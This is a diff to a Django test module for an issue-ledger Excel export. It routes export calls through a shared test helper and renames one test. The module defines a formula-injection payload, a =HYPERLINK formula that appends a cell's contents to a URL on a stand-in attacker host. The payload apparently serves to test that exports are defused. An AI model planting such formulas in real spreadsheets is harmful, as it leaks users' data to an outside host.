@@ -8,8 +8,8 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from issues.exports import LEDGER_COLUMNS, ledger_xlsx_response
-from issues.selectors import issue_list
+from issues.exports import LEDGER_COLUMNS
+from tests.exports import exported
 from tests.issues.conftest import accepted, in_progress, submitted
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
@@ -19,7 +19,7 @@ DISPOSITION = "attachment; filename*=utf-8''%E9%97%AE%E9%A2%98%E5%8F%B0%E8%B4%A6
 
 
 def export_content(client, **filters) -> bytes:
-    response = client.get(reverse("issues:export"), filters)
+    response = exported(client, reverse("issues:export"), filters)
     assert response.status_code == 200
     assert response["Content-Type"] == XLSX
     assert response["Content-Disposition"] == DISPOSITION
@@ -72,10 +72,10 @@ def test_the_export_has_a_title_row_a_frozen_header_widths_and_date_formats(ledg
     assert (row[11].number_format, row[13].number_format) == ("yyyy-mm-dd hh:mm", "yyyy-mm-dd")
 
 
-def test_the_download_helper_names_the_file_once(ledger):
+def test_the_export_job_names_the_file_once(ledger, client_for):
     submitted(ledger)
 
-    response = ledger_xlsx_response(issue_list(user=ledger.manager))
+    response = exported(client_for(ledger.manager), reverse("issues:export"))
 
     assert (response["Content-Type"], response["Content-Disposition"]) == (XLSX, DISPOSITION)
     sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
